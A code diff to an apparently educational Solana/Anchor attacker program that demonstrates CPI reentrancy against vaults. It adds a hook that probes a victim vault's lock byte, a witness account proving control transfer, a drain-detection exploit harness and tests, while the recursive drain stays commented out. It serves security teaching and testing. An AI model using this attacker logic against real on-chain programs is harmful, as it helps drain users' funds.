@@ -4,6 +4,19 @@ use anchor_lang::prelude::*;
 
 declare_id!("DEQ5hWPARGHxP3s48mbon9Hcb8Bw12PtJwnBREPyAV1Z");
 
+/// Proof-of-control marker owned by this attacker program.
+///
+/// "The transaction succeeded" is weak evidence that a reentrancy hook
+/// actually ran — the victim may swallow a failed hook CPI (both victims
+/// call `.ok()` / record the result and carry on). When the victim forwards
+/// one of these accounts, the hook flips `hook_ran` to `true` the moment it
+/// gains execution, so tests and observers get a durable, on-chain record
+/// that control really did transfer to attacker code mid-withdrawal.
+#[account]
+pub struct HookWitness {
+    pub hook_ran: bool,
+}
+
 /// # CPI Reentrancy Attacker Program
 /// 
 /// This program demonstrates how a malicious external program can exploit reentrancy 
@@ -25,7 +38,7 @@ declare_id!("DEQ5hWPARGHxP3s48mbon9Hcb8Bw12PtJwnBREPyAV1Z");
 /// 
 /// ## Why This Works (Vulnerable Pattern)
 /// 
-/// ```rust
+/// ```rust,ignore
 /// // VULNERABLE: Read → CPI → Update
 /// pub fn unsafe_withdraw(ctx: Context<Withdraw>, amount: u64) -> Result<()> {
 ///     let old_balance = ctx.accounts.vault.balance;  // STEP 1: Read
@@ -61,7 +74,7 @@ declare_id!("DEQ5hWPARGHxP3s48mbon9Hcb8Bw12PtJwnBREPyAV1Z");
 /// The fix requires TWO changes:
 /// 
 /// 1. **CEI Pattern (Checks-Effects-Interactions):**
-///    ```rust
+///    ```rust,ignore
 ///    // SECURE: Check → Update → CPI
 ///    pub fn safe_withdraw(ctx: Context<Withdraw>, amount: u64) -> Result<()> {
 ///        // CHECKS: Validate inputs
@@ -77,7 +90,7 @@ declare_id!("DEQ5hWPARGHxP3s48mbon9Hcb8Bw12PtJwnBREPyAV1Z");
 ///    ```
 /// 
 /// 2. **Reentrancy Guard (Lock Flag):**
-///    ```rust
+///    ```rust,ignore
 ///    #[account]
 ///    pub struct Vault {
 ///        pub balance: u64,
@@ -131,7 +144,7 @@ pub mod cpi_reentrancy_attacker {
     /// 
     /// 2. **State Inspection**: The attacker can now inspect the victim's accounts.
     ///    In a real attack, the attacker would:
-    ///    ```rust
+    ///    ```rust,ignore
     ///    let vault_data = ctx.accounts.victim_vault.try_borrow_data()?;
     ///    let balance = u64::from_le_bytes(vault_data[8..16].try_into().unwrap());
     ///    msg!("Victim balance: {}", balance);  // Still shows OLD value!
@@ -195,39 +208,31 @@ pub mod cpi_reentrancy_attacker {
     /// - Multiple iterations to maximize drainage
     /// 
     /// See `scripts/cpi-reentrancy.ts` for the full attack demonstration.
-    pub fn reentrancy_hook(_ctx: Context<ReentrancyHook>) -> Result<()> {
+    pub fn reentrancy_hook(ctx: Context<ReentrancyHook>) -> Result<()> {
         // === STEP 1: ATTACKER GAINS CONTROL ===
         // At this point, the victim program has transferred control to us via CPI.
         // The victim's state update is PENDING (hasn't happened yet).
         msg!("⚔️ Attacker hook called!");
         msg!("🎯 Control transferred from victim to attacker");
-        
-        // === STEP 2: STATE INSPECTION (Educational - not implemented) ===
-        // In a real attack, we would inspect the victim vault:
-        // 
-        // let vault_data = ctx.accounts.victim_vault.try_borrow_data()?;
-        // let current_balance = u64::from_le_bytes(vault_data[8..16].try_into().unwrap());
-        // 
-        // msg!("🔍 Inspecting victim vault state:");
-        // msg!("   Current balance: {}", current_balance);
-        // msg!("   Expected: Still shows OLD balance (not yet updated)");
-        
-        // === STEP 3: REENTRANCY DECISION (Educational - not implemented) ===
-        // The attacker would check if re-entry is possible:
-        // 
-        // if current_balance > DRAIN_THRESHOLD {
-        //     msg!("💰 Balance is high enough to drain");
-        //     
-        //     // Check for reentrancy guard
-        //     let is_locked = vault_data[16]; // Hypothetical lock byte
-        //     if is_locked {
-        //         msg!("🔒 Reentrancy guard detected - attack blocked!");
-        //         return Ok(());
-        //     }
-        //     
-        //     msg!("🚨 No reentrancy guard - proceeding with attack");
-        // }
-        
+
+        // Leave durable proof of the control transfer before anything else.
+        // This happens even when the probe below aborts the attack: the
+        // witness records "attacker code executed", not "attack succeeded".
+        if let Some(witness) = ctx.accounts.witness.as_mut() {
+            witness.hook_ran = true;
+        }
+
+        // === STEP 2 & 3: STATE INSPECTION AND REENTRANCY DECISION ===
+        // Probe the victim vault's lock byte before committing to anything.
+        // A professional attacker doesn't burn a transaction on a guarded
+        // vault — if the guard is held, abort quietly and walk away.
+        let decision = probe_lock(&ctx.accounts.victim_vault.try_borrow_data()?);
+        if decision == HookDecision::AttackAborted {
+            msg!("🔒 attack_aborted: reentrancy guard is held");
+            return Ok(());
+        }
+        msg!("🚨 No reentrancy guard held - proceeding with attack");
+
         // === STEP 4: RECURSIVE CPI CONSTRUCTION (Educational - not implemented) ===
         // This is where the ACTUAL attack would happen:
         // 
@@ -263,7 +268,7 @@ pub mod cpi_reentrancy_attacker {
         // === EDUCATIONAL SUMMARY ===
         // This function demonstrates:
         // 1. ✅ Control flow hijacking (we gained execution during victim's CPI)
-        // 2. ✅ State inspection opportunity (we can read victim's accounts)
+        // 2. ✅ State inspection (the lock-byte probe above is real)
         // 3. 📚 Recursive CPI construction (documented in comments)
         // 4. 📚 State overwrite vulnerability (explained in comments)
         // 
@@ -276,6 +281,84 @@ pub mod cpi_reentrancy_attacker {
     }
 }
 
+/// The canonical 8-byte instruction discriminator for `reentrancy_hook`.
+///
+/// Anchor derives it as `sha256("global:reentrancy_hook")[..8]` and bakes it
+/// into the generated `instruction::ReentrancyHook` struct — which is what
+/// this function returns, so it can never drift from what the dispatcher
+/// actually matches on. The victim programs build their hook CPI data by
+/// hand; exposing this lets them (and tests) use the real bytes instead of
+/// a guessed placeholder that would make the hook CPI silently fail.
+pub fn reentrancy_hook_discriminator() -> [u8; 8] {
+    <instruction::ReentrancyHook as anchor_lang::Discriminator>::DISCRIMINATOR
+}
+
+/// What the hook decided after probing the victim vault's guard.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub enum HookDecision {
+    /// The lock byte is set: re-entering would only buy a failed
+    /// transaction, so the hook records the abort and returns.
+    AttackAborted,
+    /// No guard is held (or none exists) — the re-entry path is open.
+    Proceed,
+}
+
+/// Offset of `is_locked` in both victim vaults' data: it is the first field
+/// after the 8-byte account discriminator.
+pub const VAULT_LOCK_OFFSET: usize = 8;
+
+/// Reads the victim vault's lock byte and decides whether re-entry is worth
+/// attempting. Anything that can't even hold a lock byte is treated as
+/// guarded — an attacker gains nothing from re-entering an unknown account.
+pub fn probe_lock(vault_data: &[u8]) -> HookDecision {
+    match vault_data.get(VAULT_LOCK_OFFSET) {
+        Some(0) => HookDecision::Proceed,
+        _ => HookDecision::AttackAborted,
+    }
+}
+
+/// [`common::Exploit`] registration for the reentrancy drain.
+///
+/// The drain signature is lamports-vs-bookkeeping: the nested withdraw moves
+/// real lamports that the victim's stale state write never records. The
+/// exploit carries the decrease the vault's `balance` field admitted to; the
+/// harness supplies the lamport balances it observed around the attack.
+/// (This crate is pinned to an older anchor-lang than `common`, which is why
+/// the signature is spelled via `common::ExploitResult`.)
+pub struct DrainExploit {
+    pub recorded_decrease: u64,
+}
+
+impl common::Exploit for DrainExploit {
+    fn name(&self) -> &'static str {
+        "cpi-reentrancy-drain"
+    }
+
+    fn run(&self, ctx: &common::ExploitCtx) -> common::ExploitResult {
+        let (pre, post) = ctx.target_lamports;
+        let drained = pre.saturating_sub(post);
+        Ok(if drained > self.recorded_decrease {
+            common::Outcome::exploited(format!(
+                "vault lost {} lamports but booked a decrease of only {}",
+                drained, self.recorded_decrease
+            ))
+        } else {
+            common::Outcome::blocked(
+                "lamports moved match the recorded balance decrease; no hidden withdrawal",
+            )
+        })
+    }
+}
+
+impl common::SuccessOracle for DrainExploit {
+    /// Hidden drain: more lamports left the vault than its bookkeeping
+    /// admitted to — the re-entered withdrawal's signature.
+    fn succeeded(&self, ctx: &common::ExploitCtx) -> bool {
+        let (pre, post) = ctx.target_lamports;
+        pre.saturating_sub(post) > self.recorded_decrease
+    }
+}
+
 /// ## Reentrancy Hook Account Context
 /// 
 /// This struct defines the accounts that the attacker receives when the victim
@@ -330,4 +413,132 @@ pub struct ReentrancyHook<'info> {
     /// Safety: This is an educational attacker program. Using UncheckedAccount
     /// is intentional to demonstrate CPI construction patterns.
     pub victim_program: AccountInfo<'info>,
-}
\ No newline at end of file
+
+    /// Shared [`HookWitness`] the hook stamps on entry, proving control
+    /// transferred. Optional so victims that build the hook CPI with only
+    /// the two accounts above (the fix's registered-notifier call) keep
+    /// working unchanged; the vulnerable victim forwards it as the third
+    /// account.
+    #[account(mut)]
+    pub witness: Option<Account<'info, HookWitness>>,
+}
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use anchor_lang::solana_program::clock::Epoch;
+    use anchor_lang::{AnchorSerialize, Discriminator};
+
+    /// Pins the helper to the bytes Anchor's derivation produces:
+    /// `sha256("global:reentrancy_hook")[..8]`. If the instruction is ever
+    /// renamed, this fails loudly instead of letting every victim's hook
+    /// CPI start missing the dispatcher.
+    #[test]
+    fn hook_discriminator_matches_anchor_derivation() {
+        assert_eq!(
+            reentrancy_hook_discriminator(),
+            [224, 69, 136, 19, 177, 50, 229, 171]
+        );
+    }
+
+    /// Both victim vaults put `is_locked` right after the discriminator, so
+    /// the probe only needs byte 8. Hand-built account images stand in for
+    /// the real vaults (depending on the victim crates here would be a
+    /// dependency cycle — they already depend on this one for the hook).
+    fn vault_bytes(is_locked: bool) -> Vec<u8> {
+        let mut data = vec![0u8; 8]; // discriminator, irrelevant to the probe
+        data.push(is_locked as u8);
+        data.extend_from_slice(&[0u8; 48]); // authority + balance fields
+        data
+    }
+
+    #[test]
+    fn hook_aborts_against_a_locked_vault() {
+        assert_eq!(probe_lock(&vault_bytes(true)), HookDecision::AttackAborted);
+
+        // Accounts too short to carry a lock byte are not worth re-entering
+        // either; the probe treats them as guarded.
+        assert_eq!(probe_lock(&[0u8; 4]), HookDecision::AttackAborted);
+    }
+
+    #[test]
+    fn hook_proceeds_against_an_unlocked_vault() {
+        assert_eq!(probe_lock(&vault_bytes(false)), HookDecision::Proceed);
+    }
+
+    fn make_account(owner: Pubkey, is_writable: bool, data: Vec<u8>) -> AccountInfo<'static> {
+        AccountInfo::new(
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            is_writable,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(data.into_boxed_slice()),
+            Box::leak(Box::new(owner)),
+            false,
+            Epoch::default(),
+        )
+    }
+
+    fn serialize_witness(hook_ran: bool) -> Vec<u8> {
+        let mut data = <HookWitness as Discriminator>::DISCRIMINATOR.to_vec();
+        data.extend_from_slice(&HookWitness { hook_ran }.try_to_vec().unwrap());
+        data
+    }
+
+    /// Drives the hook exactly as the runtime would when the vulnerable
+    /// victim's `withdraw` dispatches its CPI with the witness forwarded as
+    /// the third account. The stamp must land even on the abort path — the
+    /// witness attests that control transferred, not that the attack paid.
+    #[test]
+    fn hook_stamps_the_witness_on_entry_even_when_aborting() {
+        let program_id = crate::id();
+
+        for locked in [false, true] {
+            let vault_ai = Box::leak(Box::new(make_account(
+                Pubkey::new_unique(),
+                false,
+                vault_bytes(locked),
+            )));
+            let victim_ai = Box::leak(Box::new(make_account(Pubkey::new_unique(), false, vec![])));
+            let witness_ai = Box::leak(Box::new(make_account(
+                program_id,
+                true,
+                serialize_witness(false),
+            )));
+
+            let mut accounts = ReentrancyHook {
+                victim_vault: (*vault_ai).clone(),
+                victim_program: (*victim_ai).clone(),
+                witness: Some(Account::try_from(&*witness_ai).unwrap()),
+            };
+            let ctx = Context::new(&program_id, &mut accounts, &[], ReentrancyHookBumps {});
+            cpi_reentrancy_attacker::reentrancy_hook(ctx).unwrap();
+
+            assert!(
+                accounts.witness.as_ref().unwrap().hook_ran,
+                "witness must be stamped with locked = {}",
+                locked
+            );
+        }
+    }
+
+    /// The fix victim's registered-notifier CPI passes only the vault and
+    /// program accounts; the hook must keep accepting that shape.
+    #[test]
+    fn hook_runs_without_a_witness_account() {
+        let program_id = crate::id();
+        let vault_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            false,
+            vault_bytes(false),
+        )));
+        let victim_ai = Box::leak(Box::new(make_account(Pubkey::new_unique(), false, vec![])));
+
+        let mut accounts = ReentrancyHook {
+            victim_vault: (*vault_ai).clone(),
+            victim_program: (*victim_ai).clone(),
+            witness: None,
+        };
+        let ctx = Context::new(&program_id, &mut accounts, &[], ReentrancyHookBumps {});
+        cpi_reentrancy_attacker::reentrancy_hook(ctx).unwrap();
+    }
+}